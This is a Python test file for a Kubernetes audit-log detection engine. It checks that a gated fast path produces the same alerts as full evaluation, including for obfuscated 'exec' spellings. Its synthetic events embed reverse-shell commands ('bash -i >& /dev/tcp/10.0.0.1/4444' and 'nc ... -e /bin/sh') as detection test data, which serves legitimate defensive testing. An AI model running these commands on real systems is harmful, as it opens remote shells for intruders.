"""The fast path (orjson, in-place ECS reads, the rule gate) changes no outcome.

Every message goes through a pipeline whose detector has the rule gate and one whose detector
sends every event through every rule; alerts (id, rule, fields, explanation) and dead letters
(reason) must be identical. The JSON decoder itself is compared with ``json.loads`` on the
inputs where orjson and the stdlib differ.
"""

from __future__ import annotations

import contextlib
import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from auditstream.detections.alert import SourceRef
from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.errors import MalformedEvent
from auditstream.detections.esql.gate import RuleGate
from auditstream.detections.esql.rule import EsqlRule
from auditstream.detections.event.audit_event import AuditEvent
from auditstream.detections.event.decode import decode_message
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.ruleset.languages import compile_rule
from auditstream.detections.ruleset.loader import load_rule_file, load_rules
from devtools.traffic.stream import go_json, records
from devtools.traffic.synthetic import as_ecs, as_event_list, as_wrapped, exec_audit_events
from tests.unit.esql_harness import RULE_TABLE

SOURCE = SourceRef("file", file="fast-path", line=1)
Outcome = tuple[str, Any]


@pytest.fixture(scope="module")
def detector() -> Detector:
    return Detector(load_rules([], builtin=True).rules)


@pytest.fixture(scope="module")
def ungated() -> Detector:
    return Detector(load_rules([], builtin=True).rules, gate=False)


def _outcome(pipeline: DetectionPipeline, data: bytes) -> Outcome:
    try:
        result = pipeline.process_message(data, SOURCE)
    except MalformedEvent as err:
        return ("dead_letter", err.reason)
    alerts = tuple(alert.to_json() for alert in result.alerts)  # id, rule, fields, explanation
    return ("ok", (result.events, result.exec_requests, alerts, result.repeats))


def _assert_same(detector: Detector, ungated: Detector, messages: Iterator[bytes]) -> int:
    """Equal outcomes with and without the gate; returns how many events the gate turned away."""
    assert detector.gate.subresources is not None and ungated.gate.subresources is None
    fast = DetectionPipeline(detector, RecentAlerts(100_000), clock=_clock)
    full = DetectionPipeline(ungated, RecentAlerts(100_000), clock=_clock)
    skipped = 0
    for data in messages:
        assert _outcome(fast, data) == _outcome(full, data), data
        with contextlib.suppress(MalformedEvent):
            skipped += sum(not detector.gate.admits(e) for e in decode_message(data))
    return skipped


def _clock() -> Any:
    from datetime import UTC, datetime  # noqa: PLC0415

    return datetime(2025, 1, 15, tzinfo=UTC)


def _shaped(seed: int, count: int, exec_share: float) -> Iterator[bytes]:
    """Traffic records re-shaped into every input shape (event lists and arrays included)."""
    rng = random.Random(seed)
    shapes = ("event", "ecs", "wrapped")
    batch: list[bytes] = []
    for record in records(rng, count, exec_share=exec_share, shapes=shapes):
        yield record.value
        batch.append(record.value)
        if len(batch) == 3:
            items = [json.loads(b) for b in batch]
            raw = [i for i in items if "auditID" in i]
            yield json.dumps(items).encode()
            if raw:
                yield go_json(as_event_list(raw))
                yield json.dumps(as_wrapped(as_event_list(raw))).encode()
                yield json.dumps([as_ecs(raw[0], layout="flattened")]).encode()
                yield json.dumps(as_ecs(raw[-1], layout="mixed")).encode()
            batch = []


@pytest.mark.slow
@pytest.mark.parametrize(
    ("seed", "count", "exec_share"), [(1, 6000, 0.02), (2, 4000, 1.0), (3, 3000, 0.3)]
)
def test_generated_traffic_same_alerts_and_dead_letters(
    detector: Detector, ungated: Detector, seed: int, count: int, exec_share: float
) -> None:
    skipped = _assert_same(detector, ungated, _shaped(seed, count, exec_share))
    if exec_share < 1.0:
        assert skipped > count // 2  # the gate does turn routine traffic away


# --------------------------------------------------------------------------- adversarial


def _exec_event(query: str, *, path: str | None = None) -> dict[str, Any]:
    (event, *_) = exec_audit_events(
        command=("sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        client="raw",
        namespace="default",
        pod="web-1",
        container="web",
        audit_id="0f0e0d0c-0b0a-4908-8706-050403020100",
        rng=random.Random(5),
        start=_clock(),
        stdin=True,
        tty=True,
        raw_query=query,
    )
    if path is not None:
        event["requestURI"] = path + "?" + query
    return event


_LETTERS = {c: f"\\u{ord(c):04x}" for c in "abcdefghijklmnopqrstuvwxyz"}


def _escape_some(text: str, picks: list[bool], upper: bool) -> str:
    out = []
    for char, pick in zip(text, picks + [False] * len(text), strict=False):
        escaped = _LETTERS.get(char)
        out.append(
            (escaped.upper().replace("\\U", "\\u") if upper else escaped)
            if pick and escaped
            else char
        )
    return "".join(out)


@st.composite
def adversarial(draw: st.DrawFn) -> bytes:
    query = "&".join(
        [f"command={quote(a, safe='')}" for a in ("sh", "-c", "nc 10.0.0.1 4444 -e /bin/sh")]
        + ["container=web", "stdin=1", "stdout=1"]
    )
    segment = draw(
        st.sampled_from(
            ["exec", "ex%65c", "%65%78%65%63", "e%78ec", "attach", "EXEC", "Exec", "exe%63"]
        )
    )
    path = f"/api/v1/namespaces/default/pods/web-1/{segment}"
    event = _exec_event(query, path=path)
    event["objectRef"]["subresource"] = draw(st.sampled_from(["exec", "attach", None, "EXEC"]))
    if event["objectRef"]["subresource"] is None:
        del event["objectRef"]["subresource"]
    text = go_json(event).decode()
    picks = draw(st.lists(st.booleans(), min_size=0, max_size=64))
    upper = draw(st.booleans())
    for needle in ('"exec"', "exec", "attach", "subresource", "requestURI", "%65", "%78"):
        if draw(st.booleans()):
            text = text.replace(needle, _escape_some(needle, picks, upper))
    if draw(st.booleans()):
        text = text.replace("%", "\\u0025")
    shape = draw(st.sampled_from(["event", "wrapped", "wrapped_list", "array", "ecs"]))
    if shape == "wrapped":
        text = json.dumps({"log": text})  # the escapes are doubled: \\u0065
    elif shape == "wrapped_list":
        text = json.dumps({"message": "[" + text + "]"})
    elif shape == "array":
        text = "[" + text + "]"
    elif shape == "ecs":
        text = json.dumps(as_ecs(json.loads(text)), ensure_ascii=draw(st.booleans()))
    return text.encode()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=adversarial())
def test_adversarial_exec_spellings_never_gated_when_they_alert(
    detector: Detector, ungated: Detector, data: bytes
) -> None:
    full = DetectionPipeline(ungated, RecentAlerts(10), clock=_clock)
    fast = DetectionPipeline(detector, RecentAlerts(10), clock=_clock)
    outcome = _outcome(full, data)
    assert _outcome(fast, data) == outcome
    if outcome[0] == "ok":
        esql_alerts = [a for a in outcome[1][2] if json.loads(a)["rule"]["language"] == "esql"]
        if esql_alerts:
            assert any(detector.gate.admits(e) for e in decode_message(data))


@pytest.mark.parametrize(
    ("object_ref", "admitted"),
    [
        ({"subresource": "exec"}, True),
        ({"subresource": ["exec"]}, True),  # a one-element array reads as its scalar
        ({"subresource": "EXEC"}, False),  # == is case-sensitive
        ({"subresource": "status"}, False),
        ({"subresource": None}, False),
        ({}, False),
        ({"subresource": 7}, False),  # not comparable with a string: null, the rule stops
    ],
)
def test_gate_reads_the_field_as_the_rules_do(
    detector: Detector, object_ref: dict[str, Any], admitted: bool
) -> None:
    event = _exec_event("command=id&container=web&stdout=1")
    event["objectRef"] = {"resource": "pods", **object_ref}
    for shape in (event, as_ecs(event), as_ecs(event, layout="flattened")):
        (decoded,) = decode_message(json.dumps(shape).encode())
        assert detector.gate.admits(decoded) is admitted, shape


def test_gate_reads_a_flattened_subresource_key(detector: Detector) -> None:
    event = _exec_event("command=id&container=web&stdout=1")
    del event["objectRef"]["subresource"]
    event["objectRef.subresource"] = "exec"
    (decoded,) = decode_message(json.dumps(event).encode())
    assert detector.gate.admits(decoded)


# --------------------------------------------------------------------------- rule gating


def _rule(tmp_path: Path, query: str) -> Path:
    path = tmp_path / "rule.toml"
    path.write_text(
        '[metadata]\ncreation_date = "2025/01/01"\n\n[rule]\n'
        'rule_id = "00000000-0000-4000-8000-000000000001"\nname = "t"\n'
        'description = "t"\nrisk_score = 21\nseverity = "low"\ntype = "esql"\n'
        'language = "esql"\nauthor = ["t"]\nlicense = "Elastic License v2"\n'
        f"query = '''\n{query}\n'''\n",
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize(
    ("query", "subresources"),
    [
        ('FROM logs-kubernetes.audit_logs-* | WHERE kubernetes.audit.verb == "delete"', None),
        (
            'FROM logs-kubernetes.audit_logs-* | WHERE kubernetes.audit.verb == "create" '
            'AND kubernetes.audit.objectRef.subresource == "exec"',
            None,
        ),
        (
            "FROM logs-kubernetes.audit_logs-* | EVAL x = 1 "
            '| WHERE kubernetes.audit.objectRef.subresource == "exec"',
            None,
        ),
        ("FROM logs-kubernetes.audit_logs-*", None),
        (
            "FROM logs-kubernetes.audit_logs-* | WHERE kubernetes.audit.objectRef.subresource == "
            '"proxy"',
            frozenset({"exec", "proxy"}),
        ),
        (
            'FROM logs-kubernetes.audit_logs-* | WHERE "attach" == '
            'kubernetes.audit.objectRef.subresource AND kubernetes.audit.verb == "create"',
            frozenset({"exec", "attach"}),
        ),
    ],
)
def test_gate_only_when_every_rule_opens_on_a_subresource(
    tmp_path: Path, query: str, subresources: frozenset[str] | None
) -> None:
    rule = load_rule_file(_rule(tmp_path, query))
    rules = (*load_rules([], builtin=True).rules, rule)
    assert Detector(rules).gate.subresources == subresources
    assert RuleGate.for_rules([r for r in rules if isinstance(r, EsqlRule)]).subresources == (
        subresources
    )


def test_shipped_rules_open_on_exec(detector: Detector) -> None:
    assert detector.gate.subresources == frozenset({"exec"})


# --------------------------------------------------------------------------- JSON decoder


@pytest.mark.parametrize(
    "text",
    [
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/","n":18446744073709551616}',
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/","n":-9223372036854775809}',
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/\\ud800","n":1e400}',
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/","n":NaN}',
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/","n":Infinity}',
        '\ufeff{"auditID":"a","stage":"s","verb":"v","requestURI":"/"}',
        '{"log":"{\\"auditID\\":\\"a\\",\\"stage\\":\\"s\\",\\"verb\\":\\"v\\",'
        '\\"requestURI\\":\\"/\\",\\"n\\":123456789012345678901234}"}',
        "[" * 900 + "]" * 900,
        '{"a":' * 300 + "1" + "}" * 300,
    ],
)
def test_decoder_matches_stdlib(text: str) -> None:
    _assert_decodes_like_stdlib(text)


def _assert_decodes_like_stdlib(text: str) -> None:
    try:
        data = text.encode()
    except UnicodeEncodeError:  # a lone surrogate written unescaped: not UTF-8 on the wire
        return
    try:
        got: Any = [(e.audit, e.document, e.shape) for e in decode_message(data)]
    except MalformedEvent as err:
        got = err.reason
    try:
        obj = json.loads(text.removeprefix("\ufeff"), parse_constant=_refuse)
    except (ValueError, RecursionError):
        assert got == "not_json"
        return
    if isinstance(got, str):
        assert got != "not_json"
        return
    assert [a for a, _, _ in got] == _audits(obj)


def _refuse(name: str) -> Any:
    raise ValueError(name)


def _audits(obj: Any) -> list[Any]:
    if isinstance(obj, list):
        return [a for item in obj for a in _audits(item)]
    if "log" in obj:
        return _audits(json.loads(obj["log"]))
    return [obj]


@settings(max_examples=200, deadline=None)
@given(
    value=st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
        lambda children: (
            st.lists(children, max_size=4)
            | st.dictionaries(st.text(max_size=8), children, max_size=4)
        ),
        max_leaves=20,
    )
)
def test_decoder_values_match_stdlib(value: Any) -> None:
    event = {"auditID": "a", "stage": "s", "verb": "v", "requestURI": "/", "x": value}
    _assert_decodes_like_stdlib(json.dumps(event))
    _assert_decodes_like_stdlib(json.dumps(event, ensure_ascii=False))


@pytest.mark.parametrize(
    "change",
    [
        {"verb": None},
        {"auditID": ""},
        {"kind": "Pod"},
        {"apiVersion": "v1"},
        {"requestURI": 7},
        {"objectRef": "pods"},
        {"objectRef": {"subresource": ["status", "exec"]}},
        {"objectRef.subresource": "exec"},
    ],
)
def test_routine_shortcut_refuses_and_keeps_exactly_as_the_full_path(
    detector: Detector, ungated: Detector, change: dict[str, Any]
) -> None:
    routine = _exec_event("command=id&container=web&stdout=1")
    routine["objectRef"] = {"resource": "pods", "namespace": "default", "name": "web-1"}
    routine["requestURI"] = "/api/v1/namespaces/default/pods/web-1"
    event = {**routine, **change}
    for shape in (event, as_ecs(event)):
        data = json.dumps(shape).encode()
        fast = DetectionPipeline(detector, RecentAlerts(10), clock=_clock)
        full = DetectionPipeline(ungated, RecentAlerts(10), clock=_clock)
        assert _outcome(fast, data) == _outcome(full, data), shape


def test_integers_beyond_64_bits_stay_exact_where_they_are_read(
    detector: Detector, ungated: Detector
) -> None:
    huge = 2**70 + 1
    routine = _exec_event("command=id&container=web&stdout=1")
    routine["objectRef"] = {"resource": "pods", "namespace": "default", "name": "web-1"}
    routine["requestURI"] = "/api/v1/namespaces/default/pods/web-1"
    routine["responseStatus"] = {"code": huge}
    malicious = {
        **_exec_event(
            "command=sh&command=-c&command=nc+-e+%2Fbin%2Fsh+10.0.0.1+4444&container=web&stdout=1"
        ),
        "responseStatus": {"code": huge},
    }
    for event in (routine, malicious):
        data = json.dumps(event).encode()
        fast = DetectionPipeline(detector, RecentAlerts(10), clock=_clock)
        full = DetectionPipeline(ungated, RecentAlerts(10), clock=_clock)
        assert _outcome(fast, data) == _outcome(full, data)
    reader = compile_rule(
        {
            **RULE_TABLE,
            "query": "FROM logs-kubernetes.audit_logs-* "
            '| WHERE kubernetes.audit.objectRef.subresource == "exec" '
            "| EVAL code = kubernetes.audit.responseStatus.code | KEEP code",
        },
        "<test>",
    )
    pipeline = DetectionPipeline(Detector([reader]), RecentAlerts(10), clock=_clock)
    (alert,) = pipeline.process_message(json.dumps(malicious).encode(), SOURCE).alerts
    # The exact digits (alerts carry integers beyond 64 bits as text), not 1.1805916207174113e+21
    assert str(alert.fields["code"]) == str(huge)


def test_nesting_is_accepted_to_orjson_depth() -> None:
    deep = '{"a":' * 1000 + "1" + "}" * 1000
    event = json.dumps(_exec_event("command=id&container=web")).encode()
    data = event[:-1] + b',"x":' + deep.encode() + b"}"
    (decoded,) = decode_message(data)
    assert decoded.audit_id == "0f0e0d0c-0b0a-4908-8706-050403020100"
    too_deep = event[:-1] + b',"x":' + ("[" * 1100 + "]" * 1100).encode() + b"}"
    with pytest.raises(MalformedEvent) as refused:
        decode_message(too_deep)
    assert refused.value.reason == "not_json"


UNINDEXED = (
    "FROM logs-kubernetes.audit_logs-* "
    "| EVAL minute = DATE_TRUNC(1 minute, @timestamp) "
    '| WHERE kubernetes.audit.verb IN ("get", "list") '
    'AND kubernetes.audit.objectRef.resource == "secrets" | KEEP minute'
)


def test_an_unindexed_rule_leaves_the_others_gated_per_event(tmp_path: Path) -> None:
    """A rule opening with an EVAL has no indexed requirement: the gate can no longer turn an
    event away, but it still names the rules that can fire, and only those are evaluated (the
    exec rules are not, for an event that is no exec); the outcome is the ungated one."""
    rule = load_rule_file(_rule(tmp_path, UNINDEXED))
    rules = (*load_rules([], builtin=True).rules, rule)
    fast, slow = Detector(rules), Detector(rules, gate=False)
    assert not fast.gate.on
    (exec_event,) = decode_message(json.dumps(_exec_event("command=id")).encode()) or []
    secret_get = AuditEvent(
        {**exec_event.audit, "objectRef": {"resource": "secrets"}, "verb": "get",
         "requestURI": "/api/v1/namespaces/default/secrets"}, None, "event",
    )  # fmt: skip
    exec_rules = {r.meta.rule_id for r in rules if isinstance(r, EsqlRule)} - {rule.meta.rule_id}
    assert fast.gate.candidates(secret_get) == {rule.meta.rule_id}  # the exec chain is skipped
    assert exec_rules <= (fast.gate.candidates(exec_event) or set())
    quick = DetectionPipeline(fast, RecentAlerts(100_000), clock=_clock)
    full = DetectionPipeline(slow, RecentAlerts(100_000), clock=_clock)
    fired: set[str] = set()
    for data in _shaped(3, 2000, 0.05):
        outcome = _outcome(quick, data)
        assert outcome == _outcome(full, data), data
        if outcome[0] == "ok":
            fired |= {json.loads(a)["rule"]["id"] for a in outcome[1][2]}
    assert rule.meta.rule_id in fired and len(fired) > 1
